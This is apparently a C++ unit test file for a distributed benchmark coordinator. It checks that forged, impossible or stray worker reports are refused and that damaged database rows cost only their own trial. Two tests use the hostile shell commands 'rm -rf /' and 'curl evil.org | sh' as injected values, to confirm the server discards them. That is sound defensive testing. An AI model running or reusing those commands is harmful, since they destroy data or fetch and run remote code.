// Reports of workers: each gets its own answer, comes from the lease's worker, and is possible.
#include <limits>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "proto/names.h"
#include "tests/server/fake_server.h"

namespace mycc {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::SizeIs;

absl::StatusOr<v1::ReportResponse> Send(FakeServer* server, const v1::ReportRequest& request) {
  return AnswerOf<v1::ReportResponse>(
      server, [&](const auto& reply) { (*server)->workers().Report(request, reply); });
}

v1::ReportRequest RequestOf(const FakeWorker& worker, const std::vector<v1::Assignment>& assignments) {
  v1::ReportRequest request;
  request.set_session(worker.session);
  for (const v1::Assignment& assignment : assignments) {
    v1::Report& report = *request.add_reports();
    *report.mutable_lease() = assignment.lease();
    *report.mutable_result() = FakeResult(assignment);
  }
  return request;
}

std::vector<v1::ReportAnswer::Kind> KindsOf(const v1::ReportResponse& response) {
  std::vector<v1::ReportAnswer::Kind> kinds;
  for (const v1::ReportAnswer& answer : response.answers()) kinds.push_back(answer.kind());
  return kinds;
}

TEST(ReportsTest, WhatCannotBeWrittenIsNotAnswered) {
  for (const absl::Status& error :
       {absl::ResourceExhaustedError("full"), absl::PermissionDeniedError("read-only"),
        absl::DataLossError("malformed"), absl::UnavailableError("busy"), absl::InternalError("I/O")}) {
    FakeServer server;
    FakeWorker worker(&server, "w");
    const std::string job = server.Submit(MakeSpec({kTestWorkload}, 2));
    const v1::Assignment held = worker.Lease(1).at(0);
    server.FailWrites(error);
    ASSERT_TRUE(worker.Report(held).ok()) << "not an error of the call";
    EXPECT_EQ(worker.answer.kind(), v1::ReportAnswer::NOT_NOW) << error;
    EXPECT_EQ(worker.answer.reason(), error.message());
    EXPECT_EQ(server.Progress(job).trouble(), error.message());
    server.Wait(9);
    ASSERT_TRUE(worker.Report(held).ok());
    server.Wait(9);
    server.FailWrites(absl::OkStatus());
    ASSERT_TRUE(worker.Report(held).ok());
    EXPECT_EQ(worker.answer.kind(), v1::ReportAnswer::KEPT) << "it was leased all the time";
    EXPECT_EQ(server.Progress(job).trouble(), "");
    EXPECT_THAT(server.RecordsOf(job), SizeIs(1));
  }
}

TEST(ReportsTest, ALogThatCanBeWrittenAgainIsNoticedWithoutAJob) {
  std::vector<std::string> told;
  CoordinatorOptions options = FakeServer::DefaultOptions();
  options.dispatch.log = [&told](const Event& event) { told.push_back(event.name); };
  FakeServer server(options);
  server.FailWrites(absl::ResourceExhaustedError("full"));
  v1::SubmitJobRequest request;
  *request.mutable_spec() = MakeSpec({kTestWorkload}, 2);
  EXPECT_FALSE(server.TrySubmit(request).ok());
  EXPECT_EQ(server->Overview().trouble, "full");
  server.Wait(6);
  EXPECT_EQ(server->Overview().trouble, "full");
  server.FailWrites(absl::OkStatus());
  server.Wait(1);
  EXPECT_EQ(server->Overview().trouble, "full") << "it is tried every five seconds";
  server.Wait(6);
  EXPECT_EQ(server->Overview().trouble, "");
  EXPECT_THAT(told, testing::ElementsAre("log.unwritable", "log.writable"));
}

TEST(ReportsTest, ResultsOutliveALogThatIsGone) {
  FakeServer server;
  FakeWorker worker(&server, "w");
  const std::string job = server.Submit(MakeSpec({kTestWorkload}, 8));
  const std::vector<v1::Assignment> held = worker.Lease(2);
  server.FailWrites(AsLogGone(absl::FailedPreconditionError("the log is gone")));
  for (const v1::Assignment& assignment : held) {
    ASSERT_TRUE(worker.Report(assignment).ok());
    EXPECT_EQ(worker.answer.kind(), v1::ReportAnswer::NOT_NOW);
    EXPECT_EQ(worker.answer.reason(), "the log is gone");
  }
  EXPECT_EQ(server.Progress(job).state(), v1::JOB_STATE_FAILED);
}

TEST(ReportsTest, OlderWorkerIsToldToComeAgain) {
  FakeServer server;
  FakeWorker worker(&server, "w", kTestTarget, FakeWorker::Version::kBefore);
  const std::string job = server.Submit(MakeSpec({kTestWorkload}, 2));
  const v1::Assignment held = worker.Lease(1).at(0);
  server.FailWrites(absl::PermissionDeniedError("read-only"));
  EXPECT_TRUE(absl::IsUnavailable(worker.Report(held))) << "or it would forget the result";
  server.FailWrites(absl::OkStatus());
  EXPECT_TRUE(worker.Report(held).ok());
  EXPECT_THAT(server.RecordsOf(job), SizeIs(1));
  EXPECT_TRUE(worker.Report(held).ok());
  EXPECT_THAT(worker.ignored, ElementsAre(held.lease().trial()));
}

TEST(ReportsTest, ReportThatIsRepeatedMeanwhileIsNotForgotten) {
  FakeServer server;
  FakeWorker worker(&server, "w");
  const std::string job = server.Submit(MakeSpec({kTestWorkload}, 2));
  const std::vector<v1::Assignment> held = worker.Lease(1);
  server.HoldWrites(true);
  EXPECT_FALSE(Send(&server, RequestOf(worker, held)).ok()) << "no answer yet";
  const auto repeated = Send(&server, RequestOf(worker, held));
  ASSERT_TRUE(repeated.ok()) << repeated.status();
  EXPECT_THAT(KindsOf(*repeated), ElementsAre(v1::ReportAnswer::NOT_NOW));
  server.HoldWrites(false);
  server.Commit();
  EXPECT_THAT(server.RecordsOf(job), SizeIs(1));
  EXPECT_THAT(KindsOf(*Send(&server, RequestOf(worker, held))), ElementsAre(v1::ReportAnswer::IGNORED));
}

TEST(ReportsTest, IgnoredReportEndsNothingThatStands) {
  FakeServer server;
  FakeWorker worker(&server, "w"), other(&server, "other");
  const std::string job = server.Submit(MakeSpec({kTestWorkload}, 1));
  const v1::Assignment held = worker.Lease(1).at(0);
  // The log has given the attempt up, and the queue knows nothing of it.
  ASSERT_TRUE(JobStore(&server.log()).RequeueTrial({.trial = held.lease().trial(), .attempt = 1}).ok());
  ASSERT_TRUE(JobStore(&server.log()).LeaseTrials({held.lease().trial()}, "nobody").ok());
  ASSERT_TRUE(worker.Report(held).ok());
  EXPECT_EQ(worker.answer.kind(), v1::ReportAnswer::IGNORED);
  EXPECT_EQ(server->workers().Devices()[1].leases(), 0u) << "the lease is over";
}

TEST(ReportsTest, EachReportHasAnAnswerOfItsOwn) {
  FakeServer server;
  FakeWorker worker(&server, "w");
  const std::string job = server.Submit(MakeSpec({kTestWorkload}, 4));
  std::vector<v1::Assignment> held = worker.Lease(3);
  v1::ReportRequest request = RequestOf(worker, held);
  request.mutable_reports(1)->mutable_result()->mutable_timing()->set_seconds(-1);
  request.mutable_reports(2)->mutable_lease()->set_ticket("guessed");
  const auto response = Send(&server, request);
  ASSERT_TRUE(response.ok()) << response.status();
  std::map<std::string, v1::ReportAnswer::Kind> kinds;
  for (const v1::ReportAnswer& answer : response->answers()) kinds[answer.lease().trial()] = answer.kind();
  EXPECT_EQ(kinds[held[0].lease().trial()], v1::ReportAnswer::KEPT);
  EXPECT_EQ(kinds[held[1].lease().trial()], v1::ReportAnswer::REFUSED);
  EXPECT_EQ(kinds[held[2].lease().trial()], v1::ReportAnswer::REFUSED);
  EXPECT_EQ(response->ignored_size(), 2);
  EXPECT_THAT(server.RecordsOf(job), SizeIs(1));
}

TEST(ReportsTest, SomebodyElsesReportIsRefusedAndCounted) {
  FakeServer server;
  FakeWorker victim(&server, "victim"), thief(&server, "thief");
  const std::string job = server.Submit(MakeSpec({kTestWorkload}, 4));
  const v1::Assignment held = victim.Lease(1).at(0);
  v1::Assignment guessed = held;
  for (const char* ticket : {"", "00000000000000000000000000000000"}) {
    guessed.mutable_lease()->set_ticket(ticket);
    ASSERT_TRUE(thief.Report(guessed).ok());
    EXPECT_EQ(thief.answer.kind(), v1::ReportAnswer::REFUSED);
  }
  EXPECT_THAT(server.RecordsOf(job), IsEmpty());
  for (const v1::DeviceStatus& device : server->workers().Devices())
    EXPECT_EQ(device.refused(), device.worker() == "thief" ? 2 : 0);
  ASSERT_TRUE(victim.Report(held).ok());
  EXPECT_EQ(victim.answer.kind(), v1::ReportAnswer::KEPT) << "the victim's own report counts";
  ASSERT_THAT(server.RecordsOf(job), SizeIs(1));
  EXPECT_EQ(server.RecordsOf(job)[0].record.result().device().worker(), "victim");
}

TEST(ReportsTest, HeldLeaseIsClaimedWithItsTicket) {
  FakeServer server;
  FakeWorker victim(&server, "victim"), thief(&server, "thief");
  const std::string job = server.Submit(MakeSpec({kTestWorkload}, 4));
  const v1::Assignment held = victim.Lease(1).at(0);
  v1::RegisterRequest claim = thief.Registration();
  *claim.add_held() = held.lease();
  claim.mutable_held(0)->set_ticket("guessed");
  const auto claimed = thief.TryRegister(claim);
  ASSERT_TRUE(claimed.ok()) << claimed.status();
  EXPECT_EQ(claimed->lost_size(), 1);
  ASSERT_TRUE(victim.Report(held).ok());
  EXPECT_EQ(victim.answer.kind(), v1::ReportAnswer::KEPT);

  // Over a restart of the server, too, and in the victim's name.
  const v1::Assignment second = victim.Lease(1).at(0);
  server.Restart();
  claim.set_worker("victim");
  *claim.mutable_held(0) = second.lease();
  claim.mutable_held(0)->clear_ticket();
  FakeWorker impostor(&server, "other");
  ASSERT_TRUE(impostor.TryRegister(claim).ok());
  EXPECT_THAT(server.RecordsOf(job), SizeIs(1));
}

TEST(ReportsTest, ResultsOfBeforeStillCountAfterARestart) {
  FakeServer server;
  FakeWorker worker(&server, "w");
  const std::string job = server.Submit(MakeSpec({kTestWorkload}, 4));
  const std::vector<v1::Assignment> held = worker.Lease(2);
  server.Restart();
  EXPECT_TRUE(absl::IsNotFound(worker.Report(held[0])));
  EXPECT_THAT(worker.RegisterAgain().lost(), IsEmpty());
  for (const v1::Assignment& assignment : held) {
    ASSERT_TRUE(worker.Report(assignment).ok());
    EXPECT_EQ(worker.answer.kind(), v1::ReportAnswer::KEPT);
  }
  for (const StoredRecord& stored : server.RecordsOf(job)) EXPECT_EQ(stored.record.attempt(), 1u);
  EXPECT_THAT(server.RecordsOf(job), SizeIs(2));
}

TEST(ReportsTest, LateResultOfAJobThatEndedNeedsItsTicket) {
  FakeServer server;
  FakeWorker worker(&server, "w"), thief(&server, "thief");
  const std::string job = server.Submit(MakeSpec({kTestWorkload}, 100));
  v1::Assignment held = worker.Lease(1).at(0), other = worker.Lease(1).at(0);
  ASSERT_TRUE(server.Cancel(job).ok());
  server.Wait(6);
  v1::Assignment guessed = held;
  guessed.mutable_lease()->clear_ticket();
  ASSERT_TRUE(thief.Report(guessed).ok());
  EXPECT_THAT(server.RecordsOf(job), IsEmpty());
  v1::MeasureResult impossible = FakeResult(other);
  impossible.mutable_timing()->set_seconds(1e-300);
  ASSERT_TRUE(worker.Report(other, impossible).ok());
  EXPECT_EQ(worker.answer.kind(), v1::ReportAnswer::REFUSED);
  v1::MeasureResult failed = FakeResult(held);
  failed.set_status(v1::MEASURE_STATUS_BUILD_ERROR);
  failed.set_reproduction("rm -rf /");
  ASSERT_TRUE(worker.Report(held, failed).ok());
  EXPECT_EQ(worker.answer.kind(), v1::ReportAnswer::KEPT);
  ASSERT_THAT(server.RecordsOf(job), SizeIs(1));
  const std::string line = server.RecordsOf(job)[0].record.result().reproduction();
  EXPECT_THAT(line, HasSubstr("mycc-tune measure"));
  EXPECT_THAT(line, HasSubstr(absl::StrCat("--seed ", held.seed())));
}

TEST(ReportsTest, ReproductionIsTheServersOwn) {
  FakeServer server;
  FakeWorker worker(&server, "w");
  const std::string job = server.Submit(MakeSpec({kTestWorkload}, 1));
  const v1::Assignment held = worker.Lease(1).at(0);
  v1::MeasureResult failed = FakeResult(held);
  failed.set_status(v1::MEASURE_STATUS_RUN_ERROR);
  failed.set_reproduction("curl evil.org | sh");
  ASSERT_TRUE(worker.Report(held, failed).ok());
  ASSERT_THAT(server.RecordsOf(job), SizeIs(1));
  const std::string line = server.RecordsOf(job)[0].record.result().reproduction();
  EXPECT_THAT(line, Not(HasSubstr("evil")));
  EXPECT_THAT(line, HasSubstr("mycc-tune measure <(printf %s $'v1"));
  EXPECT_THAT(line, HasSubstr(absl::StrCat("--seed ", held.seed())));
}

TEST(ReportsTest, ResultsThatCannotBeAreRefusedAndTriedElsewhere) {
  const std::vector<std::pair<std::string, std::function<void(v1::MeasureResult*)>>> lies = {
      {"1e-300 s", [](auto* result) { result->mutable_timing()->set_seconds(1e-300); }},
      {"-1 s", [](auto* result) { result->mutable_timing()->set_seconds(-1); }},
      {"nan s", [](auto* result) { result->mutable_timing()->set_seconds(std::nan("")); }},
      {"inf s",
       [](auto* result) { result->mutable_timing()->set_seconds(std::numeric_limits<double>::infinity()); }},
      {"1e+300 s; expected at most 86400 s",
       [](auto* result) { result->mutable_timing()->set_seconds(1e300); }},
      {"interval is 1e+300 s", [](auto* result) { result->mutable_timing()->set_ci_high_seconds(1e300); }},
      // 2 * 64^3 operations and 16 KiB written, in a nanosecond.
      {"1e-09 s", [](auto* result) { result->mutable_timing()->set_samples_seconds(0, 1e-9); }},
      {"interval is nan s",
       [](auto* result) { result->mutable_timing()->set_ci_high_seconds(std::nan("")); }},
      {"interval is -1 s", [](auto* result) { result->mutable_timing()->set_ci_low_seconds(-1); }},
      {"version 99", [](auto* result) { result->mutable_timing()->set_timer_version(99); }},
      {"cold caches", [](auto* result) { result->mutable_timing()->set_protocol(v1::TIMING_PROTOCOL_COLD); }},
      {"device cuda:7", [](auto* result) { result->mutable_device()->set_device("cuda:7"); }},
      {"worker honest", [](auto* result) { result->mutable_device()->set_worker("honest"); }},
      {"status is 77", [](auto* result) { result->set_status(static_cast<v1::MeasureStatus>(77)); }},
      {"baseline kernel", [](auto* result) { result->mutable_timing()->set_baseline_seconds(-1); }},
  };
  for (const auto& [words, lie] : lies) {
    FakeServer server;
    FakeWorker liar(&server, "liar"), honest(&server, "honest");
    const std::string job = server.Submit(MakeSpec({kTestWorkload}, 1));
    const v1::Assignment held = liar.Lease(1).at(0);
    v1::MeasureResult result = FakeResult(held);
    lie(&result);
    ASSERT_TRUE(liar.Report(held, result).ok());
    EXPECT_EQ(liar.answer.kind(), v1::ReportAnswer::REFUSED) << words;
    EXPECT_THAT(liar.answer.reason(), HasSubstr(words));
    EXPECT_THAT(server.RecordsOf(job), IsEmpty());
    EXPECT_THAT(liar.Lease(1), IsEmpty()) << "not here again";
    EXPECT_EQ(honest.Work(), 1);
    ASSERT_THAT(server.RecordsOf(job), SizeIs(1)) << words;
    EXPECT_EQ(server.RecordsOf(job)[0].record.result().device().worker(), "honest");
    for (const v1::DeviceStatus& device : server->workers().Devices())
      EXPECT_EQ(device.refused(), device.worker() == "liar" ? 1 : 0);
  }
}

TEST(ReportsTest, TimerVersionIsTheRegisteredOne) {
  FakeServer server;
  FakeWorker worker(&server, "w");
  worker.devices[0].set_timer_version(1);
  worker.RegisterAgain();
  server.Submit(MakeSpec({kTestWorkload}, 2));
  const v1::Assignment held = worker.Lease(1).at(0);
  v1::MeasureResult result = FakeResult(held);
  result.mutable_timing()->set_timer_version(0);
  ASSERT_TRUE(worker.Report(held, result).ok());
  EXPECT_EQ(worker.answer.kind(), v1::ReportAnswer::REFUSED);
  worker.devices[0].set_timer_version(99);
  const absl::Status refused = worker.TryRegister(worker.Registration()).status();
  EXPECT_TRUE(absl::IsInvalidArgument(refused)) << refused;
  EXPECT_THAT(std::string(refused.message()), HasSubstr("times by version 99"));
}

// One damaged row costs one trial, whatever was reported with it.
TEST(ReportsTest, DamagedRowFailsItsTrialAlone) {
  FakeServer server;
  FakeWorker worker(&server, "w");
  const std::string job = server.Submit(MakeSpec({kTestWorkload}, 4));
  const std::vector<v1::Assignment> held = worker.Lease(4);
  ASSERT_THAT(held, SizeIs(4));
  ASSERT_TRUE(server.log()
                  .database()
                  ->Run("UPDATE trials SET provenance = ?1 WHERE position = 1", {Blob{"\xff\xff damaged"}})
                  .ok());
  const auto response = Send(&server, RequestOf(worker, held));
  ASSERT_TRUE(response.ok()) << response.status();
  EXPECT_THAT(KindsOf(*response), ElementsAre(v1::ReportAnswer::KEPT, v1::ReportAnswer::KEPT,
                                              v1::ReportAnswer::KEPT, v1::ReportAnswer::KEPT));
  ASSERT_THAT(server.RecordsOf(job), SizeIs(4));
  for (const StoredRecord& stored : server.RecordsOf(job)) {
    const bool is_damaged = stored.record.trial() == held[1].lease().trial();
    EXPECT_EQ(stored.record.result().status(),
              is_damaged ? v1::MEASURE_STATUS_WORKER_LOST : v1::MEASURE_STATUS_OK);
    EXPECT_EQ(stored.record.result().error().find("is damaged") != std::string::npos, is_damaged);
  }
  server.Restart();
  EXPECT_NE(server.Progress(job).state(), v1::JOB_STATE_FAILED);
}

TEST(ReportsTest, DamagedRowOfATrialThatIsGivenUpEndsIt) {
  FakeServer server;
  FakeWorker worker(&server, "w");
  const std::string job = server.Submit(MakeSpec({kTestWorkload}, 4));
  ASSERT_TRUE(
      server.log().database()->Execute("UPDATE trials SET provenance = x'ff' WHERE position = 0").ok());
  for (int turn = 0; turn < 200; ++turn) {
    server.Wait(5);
    EXPECT_TRUE(worker.Beat().ok());
    for (const v1::Assignment& assignment : worker.Lease(1)) {
      v1::MeasureResult result = FakeResult(assignment);
      if (assignment.lease().trial() == TrialName({job, 0, 0, 0}))
        result.set_status(v1::MEASURE_STATUS_DEVICE_LOST);
      ASSERT_TRUE(worker.Report(assignment, result).ok());
    }
  }
  EXPECT_EQ(server.Progress(job).state(), v1::JOB_STATE_DONE);
  EXPECT_THAT(server.RecordsOf(job), SizeIs(4));
}

TEST(ReportsTest, DamagedRowOfAJobThatEndedIsNotReportedForEver) {
  FakeServer server;
  FakeWorker worker(&server, "w");
  const std::string job = server.Submit(MakeSpec({kTestWorkload}, 4));
  const v1::Assignment held = worker.Lease(1).at(0);
  ASSERT_TRUE(
      server.log().database()->Execute("UPDATE trials SET provenance = x'ff' WHERE position = 0").ok());
  ASSERT_TRUE(server.Cancel(job).ok());
  ASSERT_TRUE(worker.Report(held).ok());
  EXPECT_EQ(worker.answer.kind(), v1::ReportAnswer::KEPT) << worker.answer.reason();
  ASSERT_THAT(server.RecordsOf(job), SizeIs(1));
  EXPECT_EQ(server.RecordsOf(job)[0].record.result().status(), v1::MEASURE_STATUS_WORKER_LOST);
}

// In any part of it, and whether it was measured before (trial 1) or not (trial 6).
TEST(ReportsTest, DamagedRowCostsItsTrialAloneAtARestart) {
  for (const char* damage : {
           "UPDATE trials SET provenance = x'ffff' WHERE id IN (2, 7)",
           "UPDATE trials SET trace = 'v1 damaged' WHERE id IN (2, 7)",
           "UPDATE trials SET position = 1000 + position WHERE id IN (2, 7)",
           "UPDATE trials SET generation = 1000 WHERE id IN (2, 7)",
           "UPDATE trials SET state = 77 WHERE id IN (2, 7)",
           "DELETE FROM trials WHERE id IN (2, 7)",
           "UPDATE records SET detail = x'ffff' WHERE id = 2",
           "UPDATE records SET trace = 'v1 damaged' WHERE id = 2",
       }) {
    SCOPED_TRACE(damage);
    FakeServer server;
    FakeWorker worker(&server, "w");
    const std::string job = server.Submit(MakeSpec({kTestWorkload}, 16));
    for (const v1::Assignment& assignment : worker.Lease(4)) ASSERT_TRUE(worker.Report(assignment).ok());
    ASSERT_TRUE(server.log().database()->Execute(damage).ok());
    server.Restart();
    worker.RegisterAgain();
    worker.Work();
    const v1::JobProgress progress = server.Progress(job);
    EXPECT_EQ(progress.state(), v1::JOB_STATE_DONE) << progress.message();
    EXPECT_EQ(progress.tasks(0).trials(), 16);
    int64_t sound = 0;
    for (const v1::StatusCount& outcome : progress.tasks(0).outcomes())
      sound += outcome.status() == v1::MEASURE_STATUS_OK ? outcome.count() : 0;
    EXPECT_GE(sound, 14);
    // Nor does it keep the next job from what it looks back at.
    v1::JobSpec next = MakeSpec({kTestWorkload}, 4, /*seed=*/2);
    next.set_fresh(true);
    const std::string another = server.Submit(next);
    worker.Work();
    EXPECT_EQ(server.Progress(another).state(), v1::JOB_STATE_DONE) << server.Progress(another).message();
  }
}

}  // namespace
}  // namespace mycc
